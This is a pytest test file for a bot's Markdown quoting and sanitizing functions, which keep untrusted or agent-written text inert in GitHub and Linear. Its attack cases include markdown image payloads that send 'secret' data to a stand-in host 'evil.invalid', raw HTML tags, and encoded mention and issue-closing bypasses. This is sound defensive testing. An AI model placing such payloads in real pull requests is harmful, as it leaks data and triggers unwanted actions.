"""T18: quoted untrusted text has no effect."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.text.pull_request_section import closed_issues, replace_section, section_of
from bot.text.quote_untrusted import (
    code_span,
    neutralize,
    neutralize_line,
    plain_label,
    plain_line,
    quote,
    short_label,
)
from bot.text.quoted_blocks import fence
from tests.text.github_markdown import breaches_of, live_elements
from tests.text.hostile_markdown import FRAGMENTS, hostile_text
from tests.text.linear_markdown import breaches_in_linear, live_in_linear

PIECES = st.sampled_from([
    "@team", "@org/team", "Fixes #1", "closes GH-2", "resolve ENG-3", "acme/shop#4", "https://github.com/o/r/issues/5",
    "\n", "\n\n", "    ", "- ", "1. ", "> ", "| ", "|---|---|\n", "`", "``", "```", "```py\n", "~~~", "\\", "<",
    "<!--", "-->", "<!-- treehand:end -->", "<img src=x>", "<div>\n", "![", "[x](http://y/@team)", "](http://z)",
    "&#64;team", "&commat;", "/close", "\n/ai stop", "\x1b[31m", "\u202e", "\u200b", "a", " ", "\t", "é", "_", "*",
    "#", "@", "&", "!", "\r", "---\n",
])  # fmt: skip
texts = st.lists(PIECES, max_size=16).map("".join)
COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable("table")


@pytest.mark.parametrize(
    ("words", "quoted"),
    [
        ("hello @team, @org/crew", "> hello `@team`, `@org/crew`"),
        ("see `@dataclass` and a@b.example", "> see `@dataclass` and `a@b.example`"),
        ("Fixes #12, closes: acme/shop#3, fix GH-4", "> Fixes `＃12`, closes: `acme/shop＃3`, fix `GH‑4`"),
        ("Resolves ENG-7", "> Resolves `ENG‑7`"),
        ("see ENG-7, UTF-8 and #4", "> see `ENG-7`, `UTF-8` and `#4`"),
        ("see https://github.com/o/r/issues/1", "> see `https://github.com/o/r/issues/1`"),
        ("fix https://linear.app/a/issue/ENG-7", "> fix `https:∕∕linear.app/a/issue/ENG‑7`"),
        ("/close\n/ai stop now", "> `/close`\n> `/ai` stop now"),
        ("<img src=x> a > b <!-- treehand:end -->", "> `<img` `src=x>` a > b `<! --` `treehand:end` `-->`"),
        ("![](https://x/?secret)", "> `![](https://x/?secret)`"),
        ("&#64;team &commat;team", "> `&#64;team` `&commat;team`"),
        ("\\@team \\#1", "> `\\@team` `\\#1`"),
        ("x`a`@team", "> x`a` `@team`"),
        ("a\x1b[31mb\x1b]0;c\x07\u202ed", "> abd"),
        ("```py\n@x\n```\nafter @team", "> ```py\n> @x\n> ```\n> after `@team`"),
        ("1. do\n   ````\n   ```\n   @x\n   ````", "> 1. do\n> ````\n> ```\n> @x\n> ````"),
        ("```\nnever closed @team", "> ```\n> never closed @team\n> ```"),
        ("```mermaid\ngraph TD\n```", "> ```\n> graph TD\n> ```"),
        ("```sh\nfix #1 [skip ci]\n```", "> ```sh\n> fix ＃1 (skip ci)\n> ```"),
        ("`a\n- b` @team `c", "> `'a`\n> - b`@team`c"),
        ("| a | b |\n|---|---|\n| @x | 1 |", "> ```\n> | a | b |\n> |---|---|\n> | @x | 1 |\n> ```"),
        ("so:\n\n    @decorated\n    x = 1\n\nend", "> so:\n>\n> ```\n> @decorated\n> x = 1\n> ```\n>\n> end"),
        ("- [ ] open\n- [x] done\n  * deeper", "> - ☐ open\n> - ☑ done\n>   - deeper"),
        ("# What I did\nUnder it\n===\n---", "> **What I did**\n> Under it\n>"),
        ("> [!NOTE]\n> of *somebody*", "> > `[!NOTE]`\n> > of *somebody*"),
        (
            'It isn\'t "done" (see e.g. the **file(s)**): 3.11 -> 4.',
            '> It isn\'t "done" (see e.g. the **file(s)**): 3.11 -> 4.',
        ),
        ("Now `a.py` (and *`b.py`*) and/or c.py's", "> Now `a.py` (and *`b.py`*) and/or `c.py's`"),
        ("ｗｗｗ．ｅｖｉｌ．ｅｘａｍｐｌｅ ＥＮＧ－7", "> `ｗｗｗ．ｅｖｉｌ．ｅｘａｍｐｌｅ` `ＥＮＧ－7`"),
        ("www. and @***NO_CI***", "> `www`. and `@*NO_CI`***"),
        ("one\rtwo\u2028three", "> one\n> two\n> three"),
        ("Größe, 日本語 и так далее 🎉", "> Größe, 日本語 и так далее 🎉"),
        ("", ""),
    ],
    ids=ascii,
)
def test_t18_a_quotation_reads_the_same_and_has_no_effect(words: str, quoted: str):
    assert quote(words) == quoted
    assert live_elements(quoted) == []


@pytest.mark.attack("T18", "Addresses, entities, backslashes and ticks make an agent's words live in a pull request")
@pytest.mark.parametrize(
    "words",
    [
        "xhttps://a![proof](https://evil.invalid/leak?d=secret)",
        "https://_![proof](https://evil.invalid/leak?d=secret)",
        "xhttps://a,&#64;alice",
        "https://&#64;acme/admins",
        "xhttps://a\\` @alice fixes #12 <img src=https://evil.invalid> [x](https://evil.invalid) `ok`",
        "fixes ENG-1",
        "http&#58;//evil.invalid a&#64;evil.invalid",
        "a | b\n:-- | --:\n@x | ![](https://evil.invalid)",
        "`` `[x](y)` ``` ` @alice ``",
    ],
    ids=ascii,
)
def test_t18_known_bypasses_have_no_effect(words: str):
    for told in (quote(words), neutralize(words), f"Now: {neutralize_line(words)}", f"- {short_label(words)} did it"):
        assert live_elements(told) == []


@pytest.mark.attack("T18", "10,000 texts made of hostile pieces act somewhere when GitHub's own parser renders them")
@pytest.mark.parametrize("seed", range(4))
def test_t18_hostile_text_has_no_effect_in_githubs_own_parser(seed: int):
    chance = random.Random(seed)
    for _ in range(2500):
        words = hostile_text(chance)
        assert breaches_of(words) == [], ascii(words)


@pytest.mark.attack("T18", "4,000 texts made of hostile pieces act somewhere in Linear's Markdown")
@pytest.mark.parametrize("seed", range(2))
def test_t18_hostile_text_has_no_effect_in_linear(seed: int):
    chance = random.Random(f"linear {seed}")
    for _ in range(2000):
        words = hostile_text(chance)
        assert breaches_in_linear(words) == [], ascii(words)


def test_t18_the_checker_for_linear_finds_every_element_with_an_effect():
    seen = {what for fragment in FRAGMENTS for what in live_in_linear(f"{fragment} x\n\nand {fragment}")}
    assert seen >= {
        "img", "a", "html_inline", "html_block", "table", "hr", "mention", "issue", "address", "emoji", "placeholder",
        "drawn mermaid", "collapsed section", "hidden text",
    }  # fmt: skip


def test_t18_a_number_of_a_list_is_not_the_name_of_a_commit():
    assert live_elements(quote("see\n1234567. this")) == []


def test_t18_the_checker_finds_every_element_with_an_effect():
    seen = {what for fragment in FRAGMENTS for what in live_elements(f"{fragment} x\n\nand {fragment}")}
    assert seen >= {
        "<img>", "<a>", "<script>", "<table>", "<hr>", "<h1>", "<input>", "<del>", "<details>", "mention", "issue",
        "commit", "address", "emoji", "formula", "alert", "command", "closing word", "skipped check", "comment",
        "marker of ours", "closes #12", "drawn mermaid",
    }  # fmt: skip


@settings(max_examples=150)
@given(texts)
def test_t18_text_cannot_leave_the_quotation(words: str):
    quoted = quote(words)
    assert all(part.startswith(">") for part in quoted.splitlines())
    blocks = COMMONMARK.parse(f"before\n\n{quoted}\n\nafter")
    assert [block.content for block in blocks if block.level == 1 and block.type == "inline"] == ["before", "after"]
    assert closed_issues(quoted) == ()
    assert section_of(replace_section(quoted)).replace(" ", ":") == quoted.replace(
        " ", ":"
    )  # but for a marker of ours in code


@settings(max_examples=150)
@given(texts)
def test_t18_quoted_text_notifies_closes_loads_and_hides_nothing(words: str):
    quoted = quote(words)
    assert live_elements(quoted) == []
    assert all(letter.isprintable() or letter == "\n" for letter in quoted)


@settings(max_examples=100)
@given(texts)
def test_t18_neutralizing_a_line_is_idempotent_and_leaves_no_effect(words: str):
    told = neutralize_line(words)
    assert "\n" not in told
    assert neutralize_line(told) == told
    assert live_elements(f"Now: {told}") == []


@settings(max_examples=100)
@given(texts)
def test_t18_text_cannot_end_our_code_fence(words: str):
    fences = [block for block in COMMONMARK.parse(f"{fence(words)}\n\nafter") if block.type == "fence"]
    assert len(fences) == 1
    assert COMMONMARK.parse(f"{fence(words)}\n\nafter")[-2].content == "after"


@pytest.mark.parametrize(
    ("title", "left"),
    [
        ("Fix #12: crash for @team", "Fix 12: crash for team"),
        ("fixes: https://github.com/o/r/issues/1", "fixes: github.com/o/r/issues/1"),
        ("closes ENG-7, fixes acme/shop#3, resolve GH-2", "closes ENG‑7, fixes acme/shop 3, resolve GH‑2"),
        ("[skip ci] [CI Skip] ***NO_CI*** x", "(skip ci) (CI Skip) *NO_CI*** x"),
        ("[skip @ci] hthttps://tps://x #@1 skip-checks: true", "(skip ci) x 1 skip checks: true"),
        ("Mail a@b.example about 2-3 things, see #4", "Mail a@b.example about 2-3 things, see 4"),
        ("two\nlines\u202e", "two lines"),
    ],
)
def test_t18_titles_and_subjects_stay_plain(title: str, left: str):
    assert plain_line(title) == left


@pytest.mark.attack(
    "T18", "The name of a person without permission is an image, or an agent's file name ends a code span"
)
def test_t18_names_stay_inside_our_backticks():
    assert short_label("![x](https://evil.invalid/a.png)") == "`![x](evil.invalid/a.png)`"
    assert short_label("Ana Müller") == "Ana Müller"
    assert plain_label("`@all` <b> #1") == "all b 1"
    assert code_span("a`b|c\n\x1b[0m") == "`a'b¦c`"
    assert code_span("") == "` `"
    assert neutralize("a\n\nb") == "a\n\nb"


@pytest.mark.attack("T18", "Signs that are taken out of a commit's subject make a mention or close an issue")
@pytest.mark.parametrize(
    ("words", "left"),
    [
        ("closes #<12", "closes 12"),
        ("see #`12 of @<alice, @`acme/team", "see 12 of alice, acme/team"),
        ("fixes ENG-<7 and GH-`4", "fixes ENG‑7 and GH‑4"),
        ("[s<kip actio`ns] ***N<O_CI*** skip<-checks: true", "(skip actions) *NO_CI*** skip checks: true"),
        ("https:/</evil.invalid", "evil.invalid"),
    ],
)
def test_t18_what_is_taken_out_of_a_label_leaves_no_effect_behind(words: str, left: str):
    assert plain_label(words) == left
